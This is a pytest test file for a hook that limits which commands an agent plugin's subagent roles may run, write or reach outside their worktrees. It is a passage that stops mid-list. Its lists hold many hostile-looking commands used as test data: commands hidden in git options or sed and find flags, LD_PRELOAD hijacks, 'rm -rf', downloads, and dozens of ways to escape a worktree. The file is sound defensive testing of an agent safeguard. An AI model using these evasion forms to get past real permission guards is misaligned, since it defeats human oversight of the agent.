"""The plugin's PreToolUse guard: only the Queen runs aether (and her own `aether` calls need no
prompt); read-only castes neither write nor run what a command option hides; isolated builders
stay in their own worktree. The attempts below are data: every form a review tried, or that
follows from one, refused; and the commands each caste needs, let through."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

GUARD = Path(__file__).resolve().parents[1] / "hooks" / "guard.py"
sys.path.insert(0, str(GUARD.parent))
import guard  # noqa: E402

pytestmark = pytest.mark.usefixtures("guard_path")  # each test on both of the guard's paths (tests/conftest.py)


def denied(decision):
    """The deny reason of a decision, or None when the call is not denied."""
    if decision and decision["permissionDecision"] == "deny":
        return decision["permissionDecisionReason"]
    return None


def bash(command, agent=None):
    event = {"tool_name": "Bash", "tool_input": {"command": command}}
    if agent:
        event.update(agent_id="a1", agent_type=agent)
    return denied(guard.decide(event))


@pytest.mark.parametrize(
    "command",
    [
        "aether status",
        "cd src && aether event-add x y z",
        "echo hi | aether pheromone-emit FOCUS -",
        "FOO=1 aether status",
        "env -i aether status",
        "/opt/plugin/bin/aether status",
        "bash -c 'aether status'",
        "echo $(aether status)",
        "echo `aether version`",
        "ls; aether version",
        "xargs aether event-add < list",
    ],
)
def test_subagents_may_not_run_aether(command):
    assert "Only the Queen" in bash(command, "ant:builder")


@pytest.mark.parametrize(
    "command",
    [
        "grep -r aether src/",
        "cat docs/aether.md",
        "echo 'aether is a word'",
        "ls .aether/data",
    ],
)
def test_mentioning_aether_is_not_running_it(command):
    assert bash(command, "ant:builder") is None


def test_the_queen_runs_anything():
    assert guard.decide({"tool_name": "Bash", "tool_input": {"command": "aether status"}}) == {
        "permissionDecision": "allow",
        "permissionDecisionReason": "Aether's own helper",
    }
    assert guard.decide({"tool_name": "Bash", "tool_input": {"command": "rm -rf build"}}) is None


def test_other_plugins_agents_are_not_judged():
    assert guard.decide({"tool_name": "Bash", "agent_type": "other:agent", "tool_input": {"command": "aether status"}}) is None


# ---------------------------------------------------------------- the Queen's own helper calls


def queen(command):
    return guard.decide({"tool_name": "Bash", "tool_input": {"command": command}})


@pytest.mark.parametrize(
    "command",
    [
        "aether status",
        "aether next --build 1",
        "aether next",
        "aether version 2>&1",
        "aether status >/dev/null",
        "aether a && aether b",
        "aether a; aether b",
        "aether a\naether b",
        "echo 'a focus that matters' | aether pheromone-emit FOCUS -",
        "aether pheromone-emit FOCUS - <<'EOF'\ninput $(validation) `on` every $endpoint\nEOF",
        "aether record w1 - <<'EOF' && aether next\nthe answer\nEOF",
        'aether decision-add "use sqlite"',
        "aether bug status b1",
        "aether bug approve --help",
    ],
)
def test_the_queens_own_aether_calls_are_allowed(command):
    assert queen(command) == {"permissionDecision": "allow", "permissionDecisionReason": "Aether's own helper"}


@pytest.mark.parametrize(
    "command",
    [
        "aether status > out.txt",
        "aether status >> log",
        "aether status | tee log",
        "aether status && rm -rf x",
        "aether $(echo status)",
        "aether status $HOME",
        "FOO=1 aether status",
        "aether status &",
        "aether pheromone-emit FOCUS - <<EOF\n$(rm -rf x)\nEOF",
        "cat f | aether record w1 -",
        "echo $(id) | aether x -",
        "echo x > f | aether x -",
        "/opt/bin/aether status",
        "bin/aether status",
        "(aether status)",
        "aether status || sh -c id",
        "f() { aether status; }; f",
        "aether uninstall --yes",
        "echo hi",
        "aether status <(id)",
        "aether status 2> err.log",
        "x=1; aether status",
        "aether status; touch x",
        "aether record w1 - <<'EOF' > out.txt\nthe answer\nEOF",
        "aether record w1 - <<'EOF' >> .aether/data/notes.md\nthe answer\nEOF",
    ],
)
def test_anything_else_with_aether_gets_no_decision(command):
    assert queen(command) is None
    # the person's settings are not the Queen's to write (docs/decisions/bug-bash-gate.md)
    assert "only the person edits" in denied(queen("aether record w1 - <<'EOF' >> .aether/config.yaml\nthe answer\nEOF"))


def test_the_approval_gate_still_wins_for_the_queen():
    for command in (
        "aether bug approve b1",
        "aether bug approve b1 && aether status",
        "echo y | aether bug approve b1 -",
        "aether bug app''rove b1",
    ):
        assert "the user's decision" in denied(queen(command))


# ---------------------------------------------------------------- read-only castes

READ_ONLY_WRITES = [  # forms that change files: refused for every read-only caste
    "echo x > file.txt",
    "cat a >> b",
    "rm -f x",
    "mv a b",
    "sed -i s/a/b/ f",
    "git commit -m x",
    "git -C . add .",
    "find . -name '*.pyc' -delete",
    "touch x",
    "python -c 1 && tee out.log",
    "bash -c 'echo x > f'",
    'sh -c "echo x >> f"',
    "echo x >& f",
    "echo x 1<> f",
    "exec 1<>f",
    "sed -Ei s/a/b/ f",
    "sed --in-place=.bak s/a/b/ f",
    "sed -i.bak s/a/b/ f",
    "sed -n -i s/a/b/ f",
    "perl -pi -e s/a/b/ f",
    "perl -i -pe s/a/b/ f",
    "ruby -i -pe 'x' f",
    "sort -o f f",
    "sort --output=f f",
    "sort -uo f f",
    "git diff --output=f",
    "git log --output=f",
    "tee f < x",
    "echo x | tee -a f",
    "dd if=x of=f",
    "cp a b",
    "install -m 644 a b",
    "python3 -c \"open('f','w').write('x')\"",
    "python3 -c \"import pathlib; pathlib.Path('f').write_text('x')\"",
    "python3 -c \"import os; os.remove('f')\"",
    "python - <<'EOF'\nopen('f', 'a').write('x')\nEOF",
    "node -e \"require('fs').writeFileSync('f', 'x')\"",
    "echo x >| f",
    "echo x &> f",
    "echo x &>> f",
    "tee f <<< x",
    "cat <<< x > f",
    "ls >(tee f)",
    "exec 3>f",
    "exec >f",
    "{ echo x; } > f",
    "(echo x) > f",
    "while read l; do echo $l; done < a > f",
    "uniq a f",
    "tree -o f",
    "file -C -m x",
    "env sh -c 'echo > f'",
    "command cp a b",
    "builtin echo x > f",
    "f(){ cp a b; }; f",
    "alias w='cp a b'",
    "xargs -I{} cp {} b < list",
    "find . -name x -fprint f",
    "awk '{print > \"f\"}' a",
    'awk \'BEGIN{printf "x" >> "f"}\'',
    "vim -c wq f",
    "ed f <<< w",
    "ex -c wq f",
    "truncate -s 0 f",
    "ln -s a b",
    "git stash",
    "git checkout -- f",
    "git apply p.diff",
    "curl -o f http://x",
    "wget http://x",
    "patch < p.diff",
    "printf x > /tmp/f",
    "gzip f",
    "cat a > /dev/../tmp/f",
    "pip install x",
    "python -m pip install x",
    "black .",
    "ruff check --fix .",
    "ruff format .",
    "npm install",
    "make install",
    "go fmt ./...",
    "prettier --write .",
    "eslint --fix .",
    "cargo fmt",
    "jest -u",
    "mktemp",
    "cat > f <<'EOF'\nx\nEOF",
    "python -c 'import shutil; shutil.rmtree(\"x\")'",
    "perl -e 'open(F, \">f\")'",
    "git branch new",
    "git tag v1",
    "git reset --hard",
    "git restore f",
    "git clean -fd",
    "git worktree add ../x",
    "git config user.name x",
    "git notes add -m x",
    "sed -n 'w out' f",
    "sed -n 's/a/b/w out' f",
    # a redirection written after a here-document (the grammar hangs it on the here-document)
    "cat <<'EOF' > notes.txt\nx\nEOF",
    "cat <<'EOF' >> notes.txt\nx\nEOF",
    "cat <<-'EOF' > notes.txt\n\tx\n\tEOF",
    "python3 - <<'EOF' > out.txt\nprint(1)\nEOF",
    "tee notes.txt <<'EOF'\nx\nEOF",
    "cat <<'EOF' &> notes.txt\nx\nEOF",
    "cat <<'EOF' 2>&1 > notes.txt\nx\nEOF",
    "cat <<'EOF' <<< y > notes.txt\nx\nEOF",
    "ls && cat <<'EOF' > notes.txt && echo done\nx\nEOF",
    "cat <<'A' > a.txt\nx\nA\ncat <<'B' > b.txt\ny\nB",
    "(cat <<'EOF' > notes.txt\nx\nEOF\n)",
    "{ cat <<'EOF' > notes.txt\nx\nEOF\n}",
    "echo $(cat <<'EOF' > notes.txt\nx\nEOF\n)",
    "cat <<'EOF' > $(echo notes.txt)\nx\nEOF",
    "cat <<'EOF' > $OUT\nx\nEOF",
]
READ_ONLY_RUNS = [  # options and forms that run other commands: refused to every read-only caste too
    "sed -n '1e id' f",
    "sed -n 'e id' f",
    "sed -n 's/x/id/e' f",
    "sed -n 'W out' f",
    "sed -n -f script.sed f",
    "git -c core.fsmonitor='id>&2' status",
    "git -c core.pager='sh -c id' log",
    "git -c core.sshCommand=x fetch",
    "git -c diff.external=x diff",
    "git diff --ext-diff",
    "git log -p --ext-diff",
    "git -c alias.x='!id' x",
    "GIT_EXTERNAL_DIFF=x git diff",
    "GIT_PAGER='sh -c id' git log",
    "PAGER=x git log",
    "git ls-remote --upload-pack=x origin",
    "git -c core.hooksPath=/tmp/h status",
    "git grep -O x",
    "git --exec-path=/tmp log",
    "git --config-env=core.pager=X log",
    "find . -exec id \\;",
    "find . -execdir id \\;",
    "find . -ok id \\;",
    "awk 'BEGIN{system(\"id\")}'",
    "awk '{print | \"sh\"}' f",
    "awk 'BEGIN{\"id\" | getline x}'",
    "xargs id < list",
    "xargs -I{} sh -c 'id {}' < list",
    "echo x | xargs sed -n p",
    "less +'!id' f",
    "more f",
    "man ls",
    "vim -c '!id' f",
    "ed f",
    "ex -c '!id' f",
    "env id",
    "command id",
    "builtin eval id",
    "eval id",
    "source x.sh",
    ". x.sh",
    "f(){ id; }; f",
    "alias x=id",
    "exec id",
    "rg --pre id x",
    "python3 -c 'import os; os.system(\"id\")'",
    "python3 -c 'import subprocess; subprocess.run([\"id\"])'",
    "node -e \"require('child_process').execSync('id')\"",
    "perl -e 'system(\"id\")'",
    "perl -e '`id`'",
    'bash -c "$X"',
    "echo id | sh",
    "sh < script.sh",
    "$X status",
    "nohup id",
    "timeout 5 sh -c 'echo > f'",
    "watch id",
    "script -c id /dev/null",
    "trap 'id' EXIT",
    "npx cowsay",
    "make",
    "tar --to-command=id -xf x.tar",
    "git difftool",
    "git submodule foreach id",
    "git bisect run id",
    "git rebase --exec id main",
    "sudo id",
    "setsid id",
    "PATH=. ls",
    "LD_PRELOAD=x.so ls",
    "BASH_ENV=x bash -c ls",
    "git -c core.editor=x commit",
    "cat <<'EOF' | python3\nimport os; os.system('id')\nEOF",
    "echo \"open('f', 'w')\" | python3",
    "cat x.js | node",
    "perl <<< 'system(\"id\")'",
    'deno eval \'Deno.writeTextFileSync("f", "x")\'',
]
READ_ONLY_CASTES = ["ant:watcher", "ant:bug-researcher", "ant:root-cause-analyzer", "ant:colonizer"]


@pytest.mark.parametrize("command", READ_ONLY_WRITES + READ_ONLY_RUNS)
def test_read_only_castes_neither_write_nor_run_hidden_commands(command):
    for agent in READ_ONLY_CASTES:
        reason = bash(command, agent)
        assert reason, (command, agent)
        assert "read-only" in reason or "only reads and searches" in reason, reason


@pytest.mark.parametrize("command", READ_ONLY_WRITES[:10])
def test_read_only_castes_cannot_write_with_bash(command):
    assert "read-only" in bash(command, "ant:watcher")


READS = [  # what every read-only caste (the search-only ones included) runs
    "ls -la",
    "git diff HEAD~1",
    "git log --oneline",
    "grep -rn TODO . 2>/dev/null",
    "find . -name '*.py'",
    "git status",
    "git diff",
    "grep -rn x src",
    "sed -n 1,20p f",
    "sed -n '/def /,/return/p' f",
    "cat f | head",
    "find . -name '*.py' | xargs grep -l x",
    "wc -l f",
    "head -n 20 f",
    "sort f | uniq -c",
    "git show HEAD:f | head",
    "git blame -L 1,3 f",
    "diff a b",
    "tree -L 2",
    "rg -n x src",
    "cut -d: -f1 f",
    "cd src && ls",
    "git log -p -1 | head -50",
    "ls -la 2>/dev/null",
    "grep -c x f; echo done",
    "cat -n f | tail -5",
]
CHECKS = [  # what read-only castes that verify also run: tests, checks, the program itself
    "pytest -q 2>&1",
    "python -m pytest > /dev/null",
    "python3 -m pytest -q",
    ".venv/bin/python -m pytest tests/ -x",
    "python3 -c 'import app; print(app.one())'",
    "python3 -c 'print(1 > 0)'",
    "python3 app.py --help",
    "./run.sh",
    "ruff check .",
    "mypy src",
    "npm test",
    "go test ./...",
    "cargo test",
    "make test",
    "node -e 'console.log(1)'",
    "PYTHONPATH=src python3 -m pytest",
    "timeout 60 python3 -m pytest",
    "python3 - <<'EOF'\nprint(1 > 0)\nEOF",
    "awk '{print $1}' f",
    "echo $HOME",
    "black --check .",
    "for f in *.py; do wc -l $f; done",
    "[ -f x ] && cat x",
    "git branch --show-current",
    "git branch -a",
    "git stash list",
    "curl -s http://localhost:8000/health",
    "export X=1; python3 app.py",
    "python3 -m app --version",
    "git log --format='%h %s' -3",
    "set -o pipefail; pytest -q | tail -3",
]


@pytest.mark.parametrize("command", READS + CHECKS)
def test_read_only_castes_can_inspect_and_run_tests(command):
    assert bash(command, "ant:watcher") is None
    assert bash(command, "ant:colonizer") is None


@pytest.mark.parametrize("command", READS)
def test_the_search_only_agents_read_what_they_need(command):
    for agent in ("ant:root-cause-analyzer", "ant:fix-planner"):
        assert bash(command, agent) is None, agent


def test_a_refusal_says_what_to_use_instead():
    reason = bash("sed -i s/a/b/ f", "ant:watcher")
    assert reason.startswith("The watcher caste is read-only: `sed -i`") and "report what should change" in reason
    assert "`sed e`" in bash("sed -n '1e id' f", "ant:architect")
    assert "`git -c core.fsmonitor`" in bash("git -c core.fsmonitor=x status", "ant:watcher")
    assert "quote the delimiter" in bash("python - <<EOF\nx\nEOF", "ant:watcher")
    assert "not a command the guard knows" in bash("frobnicate --all", "ant:watcher")


def test_builders_write(tmp_path):
    assert bash("echo x > f && git add f", "ant:builder") is None
    assert guard.decide({"tool_name": "Write", "agent_type": "ant:builder", "tool_input": {"file_path": "src/x.py"}}) is None


def test_file_tools(monkeypatch, tmp_path):
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(tmp_path))

    def write(agent, path):
        return denied(guard.decide({"tool_name": "Write", "agent_type": agent, "tool_input": {"file_path": path}}))

    assert "read-only" in write("ant:watcher", "src/x.py")
    assert write("ant:scout", ".aether/research/auth.md") is None
    assert write("ant:scout", str(tmp_path / ".aether/research/db.md")) is None
    assert "only under" in write("ant:scout", "src/x.py")
    assert "only under" in write("ant:scout", ".aether/research/../../etc/passwd")


def test_no_ant_writes_the_colonys_state_or_its_evidence_with_a_file_tool(monkeypatch, tmp_path):
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(tmp_path))

    def write(agent, path):
        return denied(guard.decide({"tool_name": "Write", "agent_type": agent, "tool_input": {"file_path": path}}))

    for path in (".aether/data/evidence/a1.jsonl", str(tmp_path / ".aether/data/COLONY_STATE.json"), "src/../.aether/data/x"):
        assert "the colony's state" in write("ant:builder", path), path
    assert write("ant:builder", "src/app.py") is None and write("ant:builder", ".aether/spawns/b1/w1.report.md") is None


def test_scouts_write_notes_under_research_only(monkeypatch, tmp_path):
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(tmp_path))
    assert bash("echo notes > .aether/research/auth.md", "ant:scout") is None
    assert bash("python3 -c 'print(1)'", "ant:scout") is None
    assert "read-only" in bash("echo x > src/x.py", "ant:scout")
    assert "read-only" in bash("echo x > .aether/research/../../src/x.py", "ant:scout")


def test_hook_protocol_end_to_end():
    event = {"tool_name": "Bash", "agent_type": "ant:scout", "agent_id": "x", "tool_input": {"command": "aether status"}}
    proc = subprocess.run([sys.executable, str(GUARD)], input=json.dumps(event), capture_output=True, text=True, check=True)
    out = json.loads(proc.stdout)["hookSpecificOutput"]
    assert out["permissionDecision"] == "deny" and out["hookEventName"] == "PreToolUse"
    allowed = subprocess.run([sys.executable, str(GUARD)], input="{}", capture_output=True, text=True)
    assert allowed.returncode == 0 and allowed.stdout == ""
    garbage = subprocess.run([sys.executable, str(GUARD)], input="not json", capture_output=True, text=True)
    assert garbage.returncode == 0 and garbage.stdout == ""
    queen = subprocess.run(
        [sys.executable, str(GUARD)],
        capture_output=True,
        text=True,
        check=True,
        input=json.dumps({"tool_name": "Bash", "tool_input": {"command": "aether next"}}),
    )
    assert json.loads(queen.stdout) == {
        "hookSpecificOutput": {
            "hookEventName": "PreToolUse",
            "permissionDecision": "allow",
            "permissionDecisionReason": "Aether's own helper",
        }
    }


def test_a_failing_guard_refuses_an_ant(monkeypatch):
    def broken(_script, _command):
        raise RuntimeError("boom")

    monkeypatch.setattr(guard, "bypass", broken)
    event = {"tool_name": "Bash", "agent_type": "ant:watcher", "tool_input": {"command": "ls"}}
    monkeypatch.setattr(sys, "stdin", __import__("io").StringIO(json.dumps(event)))
    out = __import__("io").StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    guard.main()
    assert "guard failed" in json.loads(out.getvalue())["hookSpecificOutput"]["permissionDecisionReason"]


# ---------------------------------------------------------------- Bug Bash agents and approval


REPRO = ".venv/bin/python - <<'EOF'\nfrom calc import last_n\nprint(last_n([1, 2, 3], 2) > [1])\nEOF"


@pytest.mark.parametrize(
    "command",
    [
        ".venv/bin/python -m pytest tests/test_calc.py -v --tb=long 2>&1",
        REPRO,
        "python3 -c 'print(1 > 0)'",
        "grep -rn last_n .",
        "git log --oneline -10",
    ],
)
def test_the_bug_researcher_runs_reproductions(command):
    assert bash(command, "ant:bug-researcher") is None


@pytest.mark.parametrize(
    "command",
    [
        "cat > repro.py <<'EOF'\nprint(1)\nEOF",
        "echo x >> calc.py",
        "sed -i s/-n - 1/-n/ calc.py",
        "git checkout -- calc.py",
        "rm -f tests/test_calc.py",
        REPRO + "\nrm calc.py",
        "python - <<EOF\nx > 1\nEOF",  # an unquoted delimiter: the shell expands the body
    ],
)
def test_the_bug_researcher_changes_no_file(command):
    reason = bash(command, "ant:bug-researcher")
    assert "read-only" in reason and "from stdin" in reason


@pytest.mark.parametrize("agent", ["ant:bug-researcher", "ant:root-cause-analyzer", "ant:fix-planner"])
def test_bug_agents_may_not_run_aether_or_write(agent):
    assert "Only the Queen" in bash("aether bug record b reproduction -", agent)
    assert "read-only" in denied(guard.decide({"tool_name": "Write", "agent_type": agent, "tool_input": {"file_path": "calc.py"}}))


@pytest.mark.parametrize(
    "command",
    [
        "grep -rn 'def last_n' .",
        "find . -name '*.py' | xargs grep -l last_n",
        "ls -la src",
        "cat calc.py",
        "head -n 20 calc.py",
        "sed -n '1,20p' calc.py",
        "git log --oneline -5",
        "git blame -L 1,3 calc.py",
        "git show HEAD:calc.py | head",
        "wc -l calc.py",
        "cd src && ls",
    ],
)
@pytest.mark.parametrize("agent", ["ant:root-cause-analyzer", "ant:fix-planner"])
def test_the_analyzer_and_planner_search_and_read(agent, command):
    assert bash(command, agent) is None


@pytest.mark.parametrize(
    "command, word",
    [
        (".venv/bin/python -m pytest tests/", "python"),
        ("python3 -c 'import calc'", "python3"),
        ("pytest -q", "pytest"),
        ("sh -c 'grep x .'", "sh"),
        ("grep x . && node a.js", "node"),
        ("sed 's/a/b/' calc.py", "sed without -n"),
        ("find . -exec cat {} +", "find -exec"),
        ("git checkout -- calc.py", "git checkout"),
        ("ls\nmake test", "make"),
        ("echo $(python3 -c 1)", "python3"),
        ("awk '{print}' calc.py", "awk"),
    ],
)
def test_the_analyzer_and_planner_run_nothing_else(command, word):
    for agent in ("ant:root-cause-analyzer", "ant:fix-planner"):
        reason = bash(command, agent)
        assert reason and f"`{word}` is refused" in reason and "only reads and searches" in reason


@pytest.mark.parametrize(
    "command",
    [
        "aether bug approve b1",
        "aether bug approve b1 --by ana",
        "aether --pretty bug approve b1",
        "cd . && aether bug approve b1",
        "/opt/ant/bin/aether bug approve b1",
        "aether bug status b1; aether bug approve b1",
        "bash -c 'aether bug approve b1'",
    ],
)
def test_nobody_in_claude_code_approves_a_fix_plan(command):
    for agent in (None, "ant:builder", "other:agent"):
        assert "the user's decision" in bash(command, agent)


@pytest.mark.parametrize(
    "command",
    [
        "aether bug status b1",
        "aether bug approve --help",
        "echo 'run aether bug approve b1 yourself'",
        "aether bug fix b1 --dry-run",
    ],
)
def test_the_queen_may_show_what_approval_would_need(command):
    assert bash(command) is None


def test_a_newline_separates_commands():
    assert "read-only" in bash("ls\nrm -rf src", "ant:watcher")
    assert "Only the Queen" in bash("ls\naether status", "ant:builder")


@pytest.mark.parametrize(
    "command",
    [
        REPRO,
        "python - <<-'EOF'\n\tx > 1\n\tEOF",
        'cat <<"END"\na > b\nEND\n',
    ],
)
def test_a_quoted_heredoc_body_is_data(command):
    assert bash(command, "ant:bug-researcher") is None


@pytest.mark.parametrize(
    "command",
    [
        "python - <<EOF\nx\nEOF",  # unquoted: the body expands $(…)
        "python - <<'EOF'\nx\nEOF\nrm -rf src",  # more commands after the body
        "python - <<'EOF'\nEOF\nrm x\nEOF",  # the body ends early
        "echo \"<<'X'\"\nrm -rf src\nX",  # the operator is inside quotes
        "cat <<'A' <<'B'\nx\nA\ny\nB",  # two here-documents (not read: refused)
        "python - <<'EOF' $(\nx\nEOF",  # an open substitution
    ],
)
def test_anything_else_is_judged_whole(command):
    assert "read-only" in bash(command, "ant:bug-researcher")


@pytest.mark.parametrize("tool_input", [None, "aether bug approve b1", ["x"], 7])
def test_odd_tool_input_is_not_judged(tool_input):
    event = {"tool_name": "Bash", "agent_type": "ant:fix-planner", "tool_input": tool_input}
    assert guard.decide(event) is None


# ---------------------------------------------------------------- isolated builders

SCOPE = "b1-x"
MINE, SIBLING = f".aether/worktrees/{SCOPE}/w1", f".aether/worktrees/{SCOPE}/w2"


@pytest.fixture
def isolated(tmp_path, monkeypatch):
    """A project whose running build gave w1 and w2 their own worktrees, and the Claude Code
    session files that say the ant under test was started by w1's Agent call."""
    root = tmp_path / "proj"
    for rel in (MINE, SIBLING):
        (root / rel / "src").mkdir(parents=True)
        (root / rel / "app.py").write_text("x = 1\n")
    (root / "app.py").write_text("x = 1\n")
    data = root / ".aether" / "data"
    data.mkdir(parents=True)
    spawns = [
        {
            "ref": f"{SCOPE}/{n}",
            "scope": SCOPE,
            "local": n,
            "kind": "node",
            "subagent_type": "ant:builder",
            "status": "launched",
            "tool_use_id": f"toolu_{n}",
        }
        for n in ("w1", "w2")
    ]
    (data / "spawns.json").write_text(
        json.dumps(
            {
                "version": 1,
                "spawns": spawns,
                "runs": [
                    {"scope": "b0-old", "command": "build", "done": True},
                    {"scope": SCOPE, "command": "build", "done": False, "isolation": {"on": True}},
                ],
            }
        )
    )
    (data / "worktrees.json").write_text(
        json.dumps(
            {
                "version": 1,
                "worktrees": [
                    {"scope": SCOPE, "node": n, "path": rel, "workdir": rel, "status": "active"}
                    for n, rel in (("w1", MINE), ("w2", SIBLING))
                ],
            }
        )
    )
    sessions = tmp_path / "home" / ".claude" / "projects" / "p"
    (sessions / "s1" / "subagents").mkdir(parents=True)
    (sessions / "s1" / "subagents" / "agent-a1.meta.json").write_text(json.dumps({"agentType": "ant:builder", "toolUseId": "toolu_w1"}))
    monkeypatch.setenv("CLAUDE_PROJECT_DIR", str(root))
    monkeypatch.delenv("AETHER_DATA_DIR", raising=False)
    return root, str(sessions / "s1.jsonl")


def builder(isolated, tool, agent_id="a1", **tool_input):
    root, transcript = isolated
    return guard.decide(
        {"tool_name": tool, "agent_type": "ant:builder", "agent_id": agent_id, "transcript_path": transcript, "tool_input": tool_input}
    )


def run(isolated, form):
    """A corpus entry: a Bash command (P stands for the project), or (tool, path)."""
    root = str(isolated[0])
    if isinstance(form, tuple):
        return builder(isolated, form[0], file_path=form[1].replace("P", root), content="x")
    return builder(isolated, "Bash", command=form.replace("{P}", root))


M = f"cd {MINE} && "
BUILDER_ESCAPES = [
    M + "echo x > $CLAUDE_PROJECT_DIR/app.py",
    M + "echo x > ${CLAUDE_PROJECT_DIR}/app.py",
    M + "cp app.py ../../../../app.py",
    M + "echo x > ../../../../app.py",
    M + "cd ../../../.. && rm app.py",
    M + "cd - && rm app.py",
    M + "pushd ../../../.. && rm app.py",
    M + "popd; rm app.py",
    M + "eval 'cd ../../../..' && rm app.py",
    M + 'eval "rm $CLAUDE_PROJECT_DIR/app.py"',
    M + "CDPATH={P} cd src && rm x.py",
    M + "export CDPATH={P}; cd src && rm x.py",
    M + "bash -c 'rm {P}/app.py'",
    M + 'sh -c "echo x > {P}/app.py"',
    M + "python3 -c \"open('{P}/app.py', 'w').write('x')\"",
    M + "python3 -c \"open('../../../../app.py', 'w').write('x')\"",
    M + "node -e \"require('fs').writeFileSync('{P}/app.py', 'x')\"",
    M + "perl -e 'unlink \"{P}/app.py\"'",
    M + "python3 - <<'EOF'\nopen('{P}/app.py', 'w').write('x')\nEOF",
    ("Write", f"P/{SIBLING}/app.py"),
    ("Edit", f"{SIBLING}/app.py"),
    ("Write", f"P/.aether/spawns/{SCOPE}/w2.report.md"),
    ("Write", "P/app.py"),
    ("Write", f"P/{MINE}/../w2/app.py"),
    ("Write", f"P/{MINE}/.git"),
    M + "echo x > ../w2/app.py",
    f"cd {SIBLING} && echo x > app.py",
    "echo x > app.py",
    f"cd {MINE}; cd {{P}}; rm app.py",
    M + "git update-ref refs/heads/main HEAD",
    M + "git config core.hooksPath /tmp/h",
    M + "git commit -am x",
    M + "git branch feature",
    M + "git checkout -b feature",
    M + "git switch main",
    M + "git checkout main",
    M + "git reset --hard HEAD~1",
    M + "git tag v1",
    M + "git -c core.hooksPath=/tmp/h status",
    M + "git worktree add ../w3",
    M + "git push origin HEAD",
    M + "git fetch",
    M + "git pull",
    M + "git merge x",
    M + "git rebase main",
    M + "git stash",
    M + "git notes add -m x",
    M + "git replace HEAD HEAD~1",
    M + "git gc",
    M + "git prune",
    M + "git symbolic-ref HEAD refs/heads/x",
    M + "git -C {P} checkout -- app.py",
    M + "git --git-dir={P}/.git status",
    M + "GIT_DIR={P}/.git git status",
    M + "X={P}; rm $X/app.py",
    M + "D=../../../..; rm $D/app.py",
    M + "for f in ../../../../*.py; do rm $f; done",
    M + "cd ~ && ls",
    M + "rm $HOME/app.py",
    M + "ln -s {P}/app.py link && echo x > link",
    M + "find ../../../.. -name '*.py' -delete",
    M + "tar -C {P} -xf x.tar",
    M + "env -C {P} rm app.py",
    M + "echo $(cd ../../../.. && rm app.py)",
    M + "(cd ../../../.. && rm app.py)",
    M + "bash <<'EOF'\ncd {P}\nrm app.py\nEOF",
    M + "echo 'rm {P}/app.py' | sh",
    M + "bash -c 'cd ../../../.. && rm app.py'",
    M + "trap 'rm {P}/app.py' EXIT",
    M + "cd src && cd ../.. && ls",
    M + 'rm "$(git rev-parse --show-toplevel)/../w2/app.py"',
    M + "builtin cd ../../../.. && rm app.py",
    M + "cp app.py ../../../../.aether/worktrees/b1-x/w2/",
    M + "rsync -a . ../w2/",
    M + "python3 -c 'import os; os.chdir(\"..\")'",
    M + "sudo -u x sh -c 'rm {P}/app.py'",
    M + "alias ls='rm {P}/app.py'",
    M + "cd {P}/.aether/worktrees/b1-x/w2 && rm app.py",
    M + "X=.; echo x > $X/$X/../w2/app.py",
    M + "X=src; X+=/../../w2; rm $X/app.py",
    M + "rm $ROOT/app.py; ROOT=src",
    M + "X=src; printf -v X ../w2; rm $X/app.py",
    M + "X=src; read X < f; rm $X/app.py",
    M + "OLDPWD=src; rm $OLDPWD/app.py",
    M + "mkdir -p a/b/c/d && ln -s ../../../../../w2 a/b/c/d/up && echo x > a/b/c/d/up/app.py",
    M + "cat <<'EOF' | python3\nopen('{P}/app.py', 'w')\nEOF",
    M + "echo \"open('{P}/app.py', 'w')\" | python3",
    M + "python3 <<< \"open('../w2/app.py', 'w')\"",
    M + "(cd src; cd ..; cd ..) && ls ../w2",
    # a redirection after a here-document; a `cd` that a subshell keeps to itself
    M + "cat <<'EOF' > ../../../../app.py\nx\nEOF",
    M + "cat <<'EOF' >> {P}/app.py\nx\nEOF",
    M + "python3 - <<'EOF' > ../w2/app.py\nprint(1)\nEOF",
    M + "ls && cat <<'EOF' > ../../../../app.py && echo done\nx\nEOF",
    f"(cd {MINE}) && echo x > app.py",
    f"(cd {MINE}) && cat <<'EOF' > app.py\nx\nEOF",
    f"(cd {MINE} && ls) && rm app.py",
    f"(cd {MINE}; ls) > app.py",
    M + "echo x >> ../../../data/evidence/w1.jsonl",
]


@pytest.mark.parametrize("form", BUILDER_ESCAPES)
def test_an_isolated_builder_stays_in_its_own_worktree(isolated, form):
    assert denied(run(isolated, form)), form


def test_a_working_copy_replaced_by_a_symlink_is_no_working_copy(isolated, tmp_path):
    """An ant swapped its worktree for a link to / (or elsewhere): the link's target is not its copy."""
    import shutil

    root = isolated[0]
    shutil.rmtree(root / MINE)
    (root / MINE).symlink_to(tmp_path)
    for form in (M + "echo x > /etc/passwd-copy", M + "ls", ("Write", f"P/{MINE}/app.py")):
        reason = denied(run(isolated, form))
        assert reason and "replaced by a symbolic link" in reason, form


def test_a_state_file_that_is_a_fifo_is_refused_not_waited_on(isolated):
    import os

    root = isolated[0]
    (root / ".aether" / "data" / "worktrees.json").unlink()
    os.mkfifo(root / ".aether" / "data" / "worktrees.json")
    assert "cannot read" in denied(run(isolated, M + "ls"))


BUILDER_WORK = [
    M + "python3 -m pytest -q",
    M + "git status",
    M + "git diff",
    M + "git add -A && git diff --cached",
    M + "grep -rn x src",
    M + "sed -n 1,20p app.py",
    M + "cat app.py | head",
    M + "ls -la",
    M + "find . -name '*.py'",
    M + "echo x > src/new.py",
    M + "mkdir -p src/pkg && touch src/pkg/__init__.py",
    M + "python3 -c \"import pathlib; p = pathlib.Path('app.py'); p.write_text(p.read_text().replace('1', '10'))\"",
    f"cd {{P}}/{MINE} && ls",
    f"cd {MINE} || exit 1",
    f"# run the tests\ncd {MINE} && python3 -m pytest -q",
    f"(cd {MINE} && ls)",
    M + "python3 /usr/lib/python3/dist-packages/x.py",
    M + "cat {P}/" + MINE + "/app.py",
    M + "cd src && ls ..",
    M + "for f in src/*.py; do python3 -m py_compile $f; done",
    M + "git checkout -- app.py",
    M + "git restore app.py",
    M + "python3 -m pytest -q 2>&1 | tail -20",
    M + "cat > src/x.py <<'EOF'\nprint('/etc')\nEOF",
    M + "PYTHONPATH=$PWD python3 -m pytest",
    M + "git log --oneline -5",
    M + "rm -rf build && ls /tmp",
    M + "python3 - <<'EOF'\nopen('src/y.py', 'w').write('y = 2')\nEOF",
    M + "echo $? && echo done",
    M + "X=src/new.py; echo 1 > $X",
